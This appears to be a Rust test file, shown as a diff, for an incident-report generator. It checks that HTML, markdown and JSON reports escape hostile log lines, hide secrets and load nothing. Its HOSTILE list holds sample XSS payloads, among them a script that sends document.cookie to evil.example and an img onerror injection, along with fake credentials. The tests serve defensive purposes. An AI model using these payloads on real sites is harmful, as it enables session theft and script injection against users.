@@ -1,0 +1,358 @@
+//! The incident report: written from what was kept, with nothing in it that a hostile log line could do.
+
+use std::sync::LazyLock;
+use std::time::Duration;
+
+use backstop::core::Timestamp;
+use backstop::core::decision::{Compared, Reason};
+use backstop::core::ledger::{RollbackOutcome, RollbackRecord};
+use backstop::report::checklist::Owners;
+use backstop::report::difference::Releases;
+use backstop::report::strip::Slot;
+use backstop::report::{Incident, Row, Scene, Sources, Told, html, incident, log_of, markdown};
+use reqwest::StatusCode;
+use serde_json::{Value, json};
+
+use crate::picture::{NEW_YEAR, Surface, TOKEN, fleet, record};
+
+/// What a hostile or broken program writes into its log.
+const HOSTILE: [&str; 7] = [
+    "<script>fetch('//evil.example/'+document.cookie)</script>",
+    "</pre><img src=x onerror=alert(1)>",
+    "``` end of the fence\n# A heading | a row [a link](javascript:alert(1)) @everyone",
+    "{{ i.id }} {% include 'x' %} &lt;b&gt;",
+    "password=hunter2hunter2 for postgres://shop:swordfish@db/shop",
+    "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln",
+    "\u{1b}[31mred\u{1b}[0m \u{202e}gpj.exe",
+];
+
+const SECRETS: [&str; 5] = ["hunter2", "swordfish", "eyJhbGci", "opensesame", "tr0ub4dor"];
+
+/// A bad release: deployed, wrong from four minutes later on, rolled back, and well again.
+pub(crate) fn kept(record: RollbackRecord) -> Sources {
+    let at = record.started;
+    let (deployed, onset) = (at.before(Duration::from_secs(420)), at.before(Duration::from_secs(90)));
+    let end = at + Duration::from_secs(720);
+    let first = at.before(Duration::from_secs(1_800)).as_millis() / 15_000 * 15_000;
+    let slots: Vec<Slot> = (0..)
+        .map(|i| first + i * 15_000)
+        .take_while(|slot| *slot < end.as_millis())
+        .enumerate()
+        .map(|(i, slot)| signals(i as u64, Timestamp::from_millis(slot), (deployed, onset, at)))
+        .collect();
+    let before = slots.iter().filter(|slot| slot.at <= at.as_millis()).cloned().collect();
+    let scene = scene(deployed, before);
+    let told = |secs: u64, kind: &str, title: &str, took: Option<u64>| Told {
+        at: at + Duration::from_secs(secs),
+        kind: kind.into(),
+        title: title.into(),
+        delivered: took.map(|took| at + Duration::from_secs(secs + took)),
+        attempts: 1 + u32::from(took.is_none()) * 4,
+        error: took.is_none().then(|| "hooks.example answered 503".to_owned()),
+    };
+    let line = |ms: u64, what: &str| (at + Duration::from_millis(ms), what.to_owned());
+    let events: Vec<Value> =
+        vec![json!({"event": "succeeded", "output": {"output": "evidence", "log": lines()}})];
+    Sources {
+        journal: vec![
+            line(4, "the image sha256:aaaa is here"),
+            line(350, "create shop (from the record)"),
+            line(420, "stop shop (at most 3s): killed at once: its main process does not react to SIGTERM"),
+            line(1_200, "start shop"),
+            line(33_000, "remove shop.rbold-0000"),
+        ],
+        log: log_of(&events, &["opensesame".to_owned()]),
+        told: vec![
+            told(0, "rollback_in_progress", "ROLLBACK IN PROGRESS: shop", Some(1)),
+            told(33, "rollback_complete", "ROLLBACK COMPLETE: shop", None),
+        ],
+        scene: Some(scene),
+        after: slots,
+        releases: Some(releases()),
+        record,
+    }
+}
+
+/// The matrix and the signals at the decision.
+fn scene(deployed: Timestamp, slots: Vec<Slot>) -> Scene {
+    let row = |rule: &str, answer: &str, value: &str, threshold: &str, baseline: Option<&str>| Row {
+        rule: rule.into(),
+        value: value.into(),
+        threshold: threshold.into(),
+        baseline: baseline.map(str::to_owned),
+        samples: 1200,
+        answer: answer.into(),
+        action: "rollback".into(),
+        severity: "critical".into(),
+    };
+    Scene {
+        deployed: Some(deployed),
+        rows: vec![
+            row(
+                "error_rate",
+                "breached",
+                "19 % of 1180 requests failed",
+                "> 5.0 % for 10m",
+                Some("0.4 % over 30m"),
+            ),
+            row(
+                "latency_p99",
+                "pending",
+                "12 % of 1180 requests above 362ms",
+                "p99 > 2x baseline for 10m",
+                Some("p99 181ms over 30m"),
+            ),
+            row("health", "ok", "0 failures; last: 200 OK", "2+ in a row over 10s", None),
+            row("memory", "ok", "61 % of 256 MiB", "> 90 % for 1m", None),
+            row("log_errors", "off", "switched off", "> 3x baseline", None),
+        ],
+        slots,
+        error_line: Some(0.05),
+        latency_line: Some((2.0, false)),
+        memory_line: Some(0.90),
+        owners: Owners { cause: "Team <Checkout>".into(), ..Owners::default() },
+    }
+}
+
+fn lines() -> Vec<String> {
+    let mut all: Vec<String> = (0..12)
+        .map(|i| {
+            format!("2030-01-01T00:00:{i:02}Z ERROR checkout: upstream timed out after 1500 ms (order {i})")
+        })
+        .collect();
+    all.extend(HOSTILE.iter().map(|line| (*line).to_owned()));
+    all.push("login with opensesame was refused".to_owned());
+    all
+}
+
+fn signals(i: u64, at: Timestamp, (deployed, onset, decided): (Timestamp, Timestamp, Timestamp)) -> Slot {
+    let noise = (i * 37 % 11) as f64 / 11.0;
+    let bad = at >= onset && at <= decided;
+    let new = at >= deployed && at <= decided;
+    let requests = 280 + i * 13 % 40;
+    let share = if bad { 0.16 + noise * 0.08 } else { 0.002 + noise * 0.004 };
+    Slot {
+        at: at.as_millis(),
+        requests,
+        errors: (requests as f64 * share) as u64,
+        p99: Some(if bad { 0.48 + noise * 0.2 } else { 0.17 + noise * 0.025 }),
+        mean: None,
+        checks: 3,
+        failed: u32::from(bad && i.is_multiple_of(3)),
+        memory: Some(if new { 0.55 + 0.002 * (i % 60) as f64 } else { 0.48 + noise * 0.01 }),
+        log_errors: Some(if bad { 40 + i % 9 } else { i % 2 }),
+    }
+}
+
+fn releases() -> Releases {
+    let good = json!({"Image": "sha256:aaaaaaaaaaaaaaaa", "Config": {"Image": "shop:v1", "Cmd": ["serve"],
+        "Env": ["DB_PASSWORD=hunter2hunter2", "LOG_LEVEL=info"], "Labels": {"team": "checkout"}}});
+    let bad = json!({"Image": "sha256:bbbbbbbbbbbbbbbb", "Config": {"Image": "shop:v2",
+        "Cmd": ["serve", "--pool", "4"],
+        "Env": ["DB_PASSWORD=tr0ub4dor&3", "LOG_LEVEL=debug", "NEW_CHECKOUT=on"],
+        "Labels": {"team": "checkout", "note": "<b>bold</b>"}}});
+    let origin = |commit: &str, author: &str| {
+        json!({"Config": {"Labels": {"org.opencontainers.image.revision": commit,
+            "org.opencontainers.image.authors": author, "org.opencontainers.image.version": "2.3.0"}}})
+    };
+    Releases::compare(
+        (&good, &origin("4f2a9c1d", "Anna")),
+        (&bad, &origin("9b31e07a", "Ben <ben@shop.example>")),
+    )
+}
+
+/// The rollback that the reports of these tests are about.
+fn errors(outcome: RollbackOutcome) -> RollbackRecord {
+    let mut record = record(7, NEW_YEAR + Duration::from_secs(14 * 3600 + 142), outcome);
+    record.onset = Some(record.started.before(Duration::from_secs(90)));
+    record.decision.rule = Some("error_rate".into());
+    record.decision.reason = Reason::Requests {
+        bad: 224,
+        total: 1180,
+        window: Duration::from_secs(60),
+        limit: 0.10,
+        allowed: 0.05,
+        by_chance: 1e-12,
+        after: Duration::from_secs(330),
+        compared: Compared::Errors {
+            threshold: 0.05,
+            before: Some(0.004),
+            span: Some(Duration::from_secs(1_800)),
+        },
+    };
+    record
+}
+
+fn verified() -> Incident {
+    let said = "All checks passing for 30s (9 rows ok; 6 health checks passed); image and configuration are those of shop:v1";
+    incident(kept(errors(RollbackOutcome::Verified(said.into()))))
+}
+
+static PAGE: LazyLock<String> = LazyLock::new(|| html::write(&verified()).unwrap());
+
+#[test]
+fn the_markdown_is_as_written() {
+    insta::assert_snapshot!("incident_markdown", markdown::write(&verified()));
+}
+
+#[test]
+fn no_secret_is_in_any_form_of_it() {
+    let json = serde_json::to_string(&verified()).unwrap();
+    for (form, text) in
+        [("html", PAGE.as_str()), ("markdown", &markdown::write(&verified())), ("json", &json)]
+    {
+        for secret in SECRETS {
+            assert!(!text.contains(secret), "{secret} is in the {form}");
+        }
+        assert!(text.contains("[hidden]"), "nothing was hidden in the {form}");
+    }
+}
+
+/// A page as a browser takes it apart: the tags that open, with their attributes.
+fn tags(page: &str) -> Vec<&str> {
+    let mut tags = Vec::new();
+    let mut rest = page;
+    while let Some(begin) = rest.find('<') {
+        let end = rest[begin..].find('>').expect("a tag that ends") + begin;
+        let tag = &rest[begin + 1..end];
+        if !tag.starts_with('/') && !tag.starts_with('!') {
+            tags.push(tag);
+        }
+        rest = &rest[end + 1..];
+    }
+    tags
+}
+
+#[test]
+fn the_page_is_one_file_that_runs_and_loads_nothing() {
+    let tags = tags(&PAGE);
+    let names: std::collections::BTreeSet<&str> = tags
+        .iter()
+        .filter_map(|tag| tag.split_whitespace().next())
+        .map(|name| name.trim_end_matches('/'))
+        .collect();
+    for never in ["script", "img", "link", "iframe", "object", "form", "a", "b>", "base"] {
+        assert!(!names.contains(never), "<{never}> is in the page: {names:?}");
+    }
+    for tag in &tags {
+        for attribute in [" src=", " href=", " style=", " onerror", " onload", "javascript:"] {
+            assert!(!tag.contains(attribute), "{attribute} in <{tag}>");
+        }
+    }
+    assert_eq!(PAGE.matches("<style>").count(), 1);
+    assert!(
+        PAGE.contains("default-src &#x27;none&#x27;; style-src &#x27;sha256-")
+            || PAGE.contains("default-src 'none'; style-src 'sha256-")
+    );
+    // What was hostile is there, as text.
+    assert!(PAGE.contains("&lt;script&gt;fetch("), "the line itself is shown");
+    assert!(PAGE.contains("{% include"), "and no template is made of it");
+    assert!(!PAGE.contains('\u{1b}'));
+}
+
+#[test]
+fn the_page_opens_and_closes_everything_and_tells_whoever_cannot_see() {
+    let mut open: Vec<&str> = Vec::new();
+    let empty = ["meta", "br", "line", "rect", "path", "circle"];
+    let mut rest = PAGE.as_str();
+    while let Some(begin) = rest.find('<') {
+        let end = rest[begin..].find('>').unwrap() + begin;
+        let tag = &rest[begin + 1..end];
+        rest = &rest[end + 1..];
+        if tag.starts_with('!') || tag.ends_with('/') {
+            continue;
+        }
+        match tag.strip_prefix('/') {
+            Some(name) => assert_eq!(open.pop(), Some(name), "before {}", &rest[..rest.len().min(80)]),
+            None => {
+                let name = tag.split_whitespace().next().unwrap();
+                if !empty.contains(&name) {
+                    open.push(name);
+                }
+            }
+        }
+    }
+    assert!(open.is_empty(), "never closed: {open:?}");
+    assert!(PAGE.contains("<html lang=\"en\">") && PAGE.contains("name=\"viewport\""));
+    assert_eq!(PAGE.matches("role=\"img\" aria-labelledby=\"plot").count(), 6, "every plot has words");
+    assert!(PAGE.contains("prefers-color-scheme:dark"));
+    for words in [
+        "Failed requests",
+        "Before the deployment",
+        "Post-mortem held",
+        "between 2030-01-02",
+        "Team &lt;Checkout&gt;",
+        "9b31e07a",
+    ] {
+        assert!(PAGE.contains(words), "{words} is not in the page");
+    }
+    if let Some(file) = std::env::var_os("INCIDENT_PAGE") {
+        std::fs::write(file, PAGE.as_str()).unwrap();
+    }
+}
+
+#[test]
+fn what_was_not_kept_is_said_to_be_missing() {
+    let mut record = errors(RollbackOutcome::Stuck("no space".into()));
+    record.onset = None;
+    record.applied = None;
+    let bare = Sources {
+        record,
+        journal: Vec::new(),
+        log: Vec::new(),
+        told: Vec::new(),
+        scene: None,
+        after: Vec::new(),
+        releases: None,
+    };
+    let report = incident(bare);
+    assert_eq!(report.missing.len(), 3, "{:?}", report.missing);
+    assert!(report.plots.is_empty());
+    let page = html::write(&report).unwrap();
+    assert!(page.contains("Missing: ") && page.contains("Nobody: no way to announce"));
+    let open: Vec<_> =
+        report.checklist.iter().filter(|item| !item.done).map(|item| item.what.as_str()).collect();
+    assert!(open.contains(&"Rollback executed") && open.contains(&"Team notified"), "{open:?}");
+    assert!(markdown::write(&report).contains("- [ ] Rollback executed (on-call)"));
+}
+
+#[test]
+fn every_box_is_ticked_with_proof_or_has_an_owner() {
+    for item in verified().checklist {
+        assert_ne!(item.done, item.owner.is_some(), "{item:?}");
+        assert_eq!(item.done, !item.proof.is_empty(), "{item:?}");
+    }
+}
+
+#[tokio::test]
+async fn the_api_hands_it_out_in_every_form_and_only_to_operators() {
+    let surface = Surface::start(fleet(NEW_YEAR)).await;
+    surface.past.rollbacks.lock().unwrap().push(errors(RollbackOutcome::Verifying));
+    let http = reqwest::Client::builder().no_proxy().build().unwrap();
+    let id = "r0007";
+    let ask = |file: &str, token: Option<&str>| {
+        let request = http.get(format!("{}/api/v1/rollbacks/{id}/{file}", surface.url));
+        let request = match token {
+            Some(token) => request.bearer_auth(token),
+            None => request,
+        };
+        request.send()
+    };
+    for (file, kind) in [
+        ("report", "application/json"),
+        ("report.html", "text/html; charset=utf-8"),
+        ("report.md", "text/markdown; charset=utf-8"),
+    ] {
+        assert_eq!(ask(file, None).await.unwrap().status(), StatusCode::UNAUTHORIZED, "{file}");
+        let answer = ask(file, Some(TOKEN)).await.unwrap();
+        assert_eq!(answer.status(), StatusCode::OK, "{file}");
+        assert_eq!(answer.headers()["content-type"], kind);
+        let policy = answer.headers()["content-security-policy"].to_str().unwrap().to_owned();
+        assert!(policy.starts_with("default-src 'none'"), "{policy}");
+        assert_eq!(policy.contains("style-src 'sha256-"), file == "report.html", "{policy}");
+        assert!(answer.text().await.unwrap().contains("shop"));
+    }
+    let url = format!("{}/api/v1/rollbacks/nothing/report.html", surface.url);
+    let answer = http.get(url).bearer_auth(TOKEN).send().await.unwrap();
+    assert_eq!(answer.status(), StatusCode::NOT_FOUND);
+}
